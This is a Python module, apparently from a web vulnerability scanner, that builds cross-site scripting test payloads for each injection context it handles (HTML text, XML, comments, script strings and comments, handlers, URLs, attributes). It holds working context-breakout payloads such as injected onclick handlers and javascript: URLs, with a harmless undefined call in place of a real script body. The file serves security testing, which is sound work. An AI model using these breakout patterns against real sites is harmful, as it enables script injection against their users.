"""Payloads of `xss`: for each context the smallest text that leaves it and stands where scripts stand.

`value` stands for the baseline's value, `call` for a call of a function that nobody defined: were it run, it would do
nothing but fail. `mark` is fresh letters.
"""

from gatecrash.core.testing.oracles.reflection import (
    ATTRIBUTE,
    COMMENTED,
    HANDLER,
    IN_XML,
    RAW_TEXT,
    SCRIPT,
    TAG,
    TEXT,
    URL,
    Place,
)
from gatecrash.core.testing.oracles.script import (
    BLOCK_COMMENT,
    CODE,
    DOUBLE,
    LINE_COMMENT,
    REGEX,
    SINGLE,
    TEMPLATE,
)

_ELEMENT = "<i onclick={call}>"
# Whole by the rules of XML, and of the namespace whose attributes run.
_ELEMENT_OF_XML = '<i xmlns="http://www.w3.org/1999/xhtml" onclick="{call}"></i>'
_IN_QUOTES = "{{value}}{quote} onclick={{call}} {{mark}}={quote}"
_ADDRESS = "javascript:{call}"
# What leaves each state of a script and goes on as code, so that what follows still parses.
_IN_SCRIPT = {
    CODE: ("{value}-{call}",),
    SINGLE: ("{value}'-{call}-'", "{value}\\'-{call}//"),
    DOUBLE: ('{value}"-{call}-"', '{value}\\"-{call}//'),
    TEMPLATE: ("{value}${{{call}}}",),
    LINE_COMMENT: ("{value}\n{call}//",),
    BLOCK_COMMENT: ("{value}*/{call}/*",),
    REGEX: ("{value}/-{call}-/",),
}


def payloads_for(place: Place) -> tuple[str, ...]:
    """The patterns worth trying where a marker was seen, the likeliest first; none where nothing runs."""
    if place.kind == TEXT:
        return ("{value}" + (_ELEMENT_OF_XML if place.name == IN_XML else _ELEMENT),)
    if place.kind == RAW_TEXT:
        return (f"{{value}}</{place.name}>{_ELEMENT}",)
    if place.kind == COMMENTED:
        return ("{value}-->" + _ELEMENT,)
    if place.kind == SCRIPT:
        first, *others = _IN_SCRIPT[place.name]
        return (first, "{value}</script>" + _ELEMENT, *others)
    if place.kind == HANDLER:
        return (*_IN_SCRIPT[place.name][:1], *_attribute(place.quote))
    if place.kind == URL:
        return (_ADDRESS, *_attribute(place.quote))
    return _attribute(place.quote) if place.kind in (ATTRIBUTE, TAG) else ()


def _attribute(quote: str) -> tuple[str, ...]:
    return (_IN_QUOTES.format(quote=quote),) if quote else ("{value} onclick={call} {mark}=",)
